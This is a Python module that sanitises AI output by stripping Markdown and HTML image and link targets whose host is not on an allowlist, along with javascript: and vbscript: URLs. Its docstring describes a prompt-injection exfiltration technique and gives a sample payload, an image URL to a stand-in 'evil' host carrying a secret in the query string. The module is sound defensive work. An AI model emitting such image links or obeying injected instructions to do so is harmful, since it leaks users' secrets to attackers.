"""Markdown and HTML images (and optionally links) that would send data to a foreign host.

An injected instruction can make a model write `![x](https://evil/?q=<secret>)`;
the caller's client fetches the image and the query string leaves with it,
no click needed.  Images whose host is not on the tenant's allowlist lose
their target (`![x]`), HTML `<img>` tags go entirely, reference definitions
point to `#`.  Plain links need a click, so stripping them is a separate
choice.  Relative targets stay; `javascript:` and `vbscript:` targets never
do, links included, while the policy is on at all.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

# A script target runs in the reader's page when clicked: it goes whatever the policy says of
# links.  Its parentheses may nest once (`javascript:alert(1)`), so none is left behind.
_SCRIPT_URL = r"(?i:javascript|vbscript):(?:[^\s()]|\([^\s()]*\))*"
_SCRIPT = re.compile(r"(?i)\s*(?:javascript|vbscript):")
_URL = rf"(?:[A-Za-z][A-Za-z0-9+.\-]*:)?//[^\s)>\"']*|{_SCRIPT_URL}"
# The closing parenthesis is optional so that a target still streaming in is
# found too; the stream filter then drops the rest of it.
_MARKDOWN_TARGET = re.compile(
    rf"\]\(\s*<?(?P<url>{_URL})>?(?:[ \t]+(?:\"[^\"\n]{{0,200}}\"|'[^'\n]{{0,200}}'))?[ \t]*\)?"
)
_HTML_IMAGE = re.compile(
    rf"(?i:<img\b[^>]{{0,300}}?\bsrc\s*=\s*[\"']?(?P<url>{_URL})[^>]{{0,300}}>?)"
)
_REFERENCE = re.compile(rf"(?m)^[ \t]{{0,3}}\[[^\]\n]{{1,100}}\]:[ \t]*<?(?P<url>{_URL})>?")
_HOST = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.\-]*:)?//(?:[^/?#@]*@)?(\[[^\]]*\]|[^/?#:]*)")


@dataclass(frozen=True, slots=True)
class LinkStrip:
    """`text[start:end]` is replaced by `replacement`.

    `complete` is false for a target that may go on in text not yet seen (a
    stream cut it off); `tag` says it is an HTML tag, which ends at `>`.
    """

    start: int
    end: int
    replacement: str
    image: bool
    complete: bool
    tag: bool = False


def url_host(url: str) -> str | None:
    """The lower-case host of an absolute or protocol-relative URL, else None."""
    m = _HOST.match(url)
    return m.group(1).lower().rstrip(".") if m else None


class LinkPolicy:
    """Which image and link targets may stay: those on `allowed_hosts` (`*.x` allows x's
    subdomains), relative ones, and - unless `strip_links` - every plain link.
    """

    def __init__(
        self, allowed_hosts: tuple[str, ...] = (), *, strip_images: bool = True,
        strip_links: bool = False,
    ) -> None:  # fmt: skip
        self._exact = frozenset(h for h in allowed_hosts if not h.startswith("*."))
        self._suffixes = tuple(h[1:] for h in allowed_hosts if h.startswith("*."))
        self.strip_images = strip_images
        self.strip_links = strip_links

    @property
    def active(self) -> bool:
        return self.strip_images or self.strip_links

    def allowed(self, url: str) -> bool:
        if _SCRIPT.match(url):
            return False
        host = url_host(url)
        if host is None:
            return True
        return host in self._exact or host.endswith(self._suffixes)

    def find(self, text: str) -> Iterator[LinkStrip]:
        """The targets in `text` that must go, in no particular order."""
        if not self.active:
            return
        if "](" in text:
            yield from self._markdown(text)
        if self.strip_images and "<" in text:
            for m in _HTML_IMAGE.finditer(text):
                if not self.allowed(m.group("url")):
                    closed = m.group().endswith(">")
                    yield LinkStrip(m.start(), m.end(), "", True, closed, tag=True)
        if self.strip_images and "]:" in text:
            for m in _REFERENCE.finditer(text):
                if not self.allowed(m.group("url")):
                    closed = m.end() < len(text)
                    yield LinkStrip(m.start("url"), m.end(), "#", True, closed)

    def _markdown(self, text: str) -> Iterator[LinkStrip]:
        for m in _MARKDOWN_TARGET.finditer(text):
            image = _is_image(text, m.start())
            script = _SCRIPT.match(m.group("url")) is not None
            if not script and (
                (image and not self.strip_images) or (not image and not self.strip_links)
            ):
                continue
            if not self.allowed(m.group("url")):
                closed = m.group().endswith(")")
                yield LinkStrip(m.start(), m.end(), "]", image, closed)


def _is_image(text: str, bracket: int) -> bool:
    """Whether the `]` at `bracket` closes `![`; when its `[` is out of sight, assume it does."""
    opening = text.rfind("[", 0, bracket)
    if opening < 0:
        return True
    return opening > 0 and text[opening - 1] == "!"
